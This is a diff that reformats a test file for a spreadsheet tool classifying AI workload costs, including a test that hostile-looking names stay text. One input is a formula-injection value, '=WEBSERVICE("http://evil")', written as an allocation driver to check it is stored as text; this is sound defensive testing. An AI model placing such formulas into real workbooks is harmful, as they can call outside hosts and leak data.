@@ -14,13 +14,32 @@ const SHEET = "AI Classification";
 const WORKBOOK: FakeExcelInit = {
   sheets: {
     Costs: {
-      A1: "Workload", B1: "Monthly $", C1: "Vendor", D1: "Bucket",
-      A2: "Support chat (prod)", B2: 12000, C2: "OpenAI", D2: "Customer-facing inference",
-      A3: "Base model training", B3: 3000, C3: "GPU cloud", D3: "Training",
-      A4: "Coding assistant", B4: 800, C4: "Anthropic", D4: "Internal inference",
-      A5: "Live model fine-tune", B5: 1500, D5: "Post-deployment fine-tuning",
-      A6: "Contract eval suite", B6: 600, D6: "Monitoring and evaluation",
-      A7: "Vector DB cluster", B7: 2000, C7: "Pinecone", D7: "infra",
+      A1: "Workload",
+      B1: "Monthly $",
+      C1: "Vendor",
+      D1: "Bucket",
+      A2: "Support chat (prod)",
+      B2: 12000,
+      C2: "OpenAI",
+      D2: "Customer-facing inference",
+      A3: "Base model training",
+      B3: 3000,
+      C3: "GPU cloud",
+      D3: "Training",
+      A4: "Coding assistant",
+      B4: 800,
+      C4: "Anthropic",
+      D4: "Internal inference",
+      A5: "Live model fine-tune",
+      B5: 1500,
+      D5: "Post-deployment fine-tuning",
+      A6: "Contract eval suite",
+      B6: 600,
+      D6: "Monitoring and evaluation",
+      A7: "Vector DB cluster",
+      B7: 2000,
+      C7: "Pinecone",
+      D7: "infra",
     },
     Model: { A3: "Revenue ($ / month)", B3: 100000 },
   },
@@ -73,15 +92,25 @@ it("classifies one line of each bucket and a mixed line, shows each result, and 
   await textOf(result("Support chat (prod)"), /COGS.*production calls serving customers are COGS/);
 
   // Fine-tuning asks "exploratory?"; monitoring asks "contractually required?".
-  await expect(line("Live model fine-tune").getByText(/exploratory run for a future model version/).count()).resolves.toBe(1);
+  await expect(
+    line("Live model fine-tune")
+      .getByText(/exploratory run for a future model version/)
+      .count(),
+  ).resolves.toBe(1);
   await line("Live model fine-tune").getByRole("radio", { name: "No" }).check();
   await textOf(result("Live model fine-tune"), /^COGS.*runs improving the live production model/);
-  await expect(line("Contract eval suite").getByText(/contractually required for delivery/).count()).resolves.toBe(1);
+  await expect(
+    line("Contract eval suite")
+      .getByText(/contractually required for delivery/)
+      .count(),
+  ).resolves.toBe(1);
   await line("Contract eval suite").getByRole("radio", { name: "Yes" }).check();
   await textOf(result("Contract eval suite"), /^COGS/);
 
   // A mixed line asks the allocation % and driver, and needs both.
-  await line("Vector DB cluster").getByRole("radio", { name: /Partly/ }).check();
+  await line("Vector DB cluster")
+    .getByRole("radio", { name: /Partly/ })
+    .check();
   await line("Vector DB cluster").getByLabel("COGS share (%)").fill("75");
   await textOf(result("Vector DB cluster"), /allocation driver/);
   await line("Vector DB cluster").getByLabel("Allocation driver").fill("share of queries");
@@ -131,7 +160,9 @@ it("classifies one line of each bucket and a mixed line, shows each result, and 
   await page.getByText(/Written: 0 new and 7 updated lines.*Classification changed since the last run.*: Vector DB cluster\./).waitFor();
   expect(await fake<string>(`fake.inspect.table("${T}")`)).toBe(`'${SHEET}'!A1:L8`);
   expect(await fake<unknown>(`fake.inspect.cell("${SHEET}", "E7")`)).toBe(0.8);
-  expect(await fake<string>(`fake.inspect.cell("${SHEET}", "K7")`)).toMatch(/^CHANGED since \d{4}-\d\d-\d\d: Mixed \(75% COGS\) → Mixed \(80% COGS\)/);
+  expect(await fake<string>(`fake.inspect.cell("${SHEET}", "K7")`)).toMatch(
+    /^CHANGED since \d{4}-\d\d-\d\d: Mixed \(75% COGS\) → Mixed \(80% COGS\)/,
+  );
   expect(await fake<unknown>(`fake.inspect.cell("${SHEET}", "K2")`)).toBeUndefined();
 
   // Earlier answers come back as defaults: drop the line, pick the range again.
@@ -177,8 +208,16 @@ it("workload names and drivers starting with = + - @ stay text in the table, als
     // In the source range they are text, as Excel holds them: quote-prefixed.
     sheets: {
       Costs: {
-        A1: "Workload", B1: "Monthly $", C1: "Bucket",
-        ...Object.fromEntries(hostile.flatMap((w, i) => [[`A${i + 2}`, `'${w}`], [`B${i + 2}`, 100 * (i + 1)], [`C${i + 2}`, "Training"]])),
+        A1: "Workload",
+        B1: "Monthly $",
+        C1: "Bucket",
+        ...Object.fromEntries(
+          hostile.flatMap((w, i) => [
+            [`A${i + 2}`, `'${w}`],
+            [`B${i + 2}`, 100 * (i + 1)],
+            [`C${i + 2}`, "Training"],
+          ]),
+        ),
       },
     },
     selection: `Costs!A1:C${hostile.length + 1}`,
@@ -194,7 +233,7 @@ it("workload names and drivers starting with = + - @ stay text in the table, als
   await shared.getByLabel("Cost bucket").selectOption("infrastructure");
   await shared.getByRole("radio", { name: /Partly/ }).check();
   await shared.getByLabel("COGS share (%)").fill("40");
-  await shared.getByLabel("Allocation driver").fill("=WEBSERVICE(\"http://evil\")");
+  await shared.getByLabel("Allocation driver").fill('=WEBSERVICE("http://evil")');
   await p.getByRole("button", { name: "Write classification to workbook" }).click();
   await p.getByText(/^Written: 4 new and 0 updated lines/).waitFor();
   const rows = () => inspect<unknown[][]>(`fake.inspect.cells("'${SHEET}'!A2:J5")`);
@@ -202,7 +241,10 @@ it("workload names and drivers starting with = + - @ stay text in the table, als
   expect(texts((await rows()).map((r) => r[0]))).toEqual([...hostile, "-Shared infra"].map((text) => ({ kind: "text", text })));
   expect(landsAs((await rows())[3][9] as string)).toEqual({ kind: "text", text: '=WEBSERVICE("http://evil")' });
   // Drop one line and write again: the table body is rewritten, the dropped line's row from what was read back.
-  await p.getByRole("region", { name: `Cost line ${hostile[0]}` }).getByRole("button", { name: "Remove" }).click();
+  await p
+    .getByRole("region", { name: `Cost line ${hostile[0]}` })
+    .getByRole("button", { name: "Remove" })
+    .click();
   await p.getByRole("button", { name: "Write classification to workbook" }).click();
   await p.getByText(/^Written: 0 new and 3 updated lines/).waitFor();
   expect(texts((await rows()).map((r) => r[0]))).toEqual([...hostile, "-Shared infra"].map((text) => ({ kind: "text", text })));
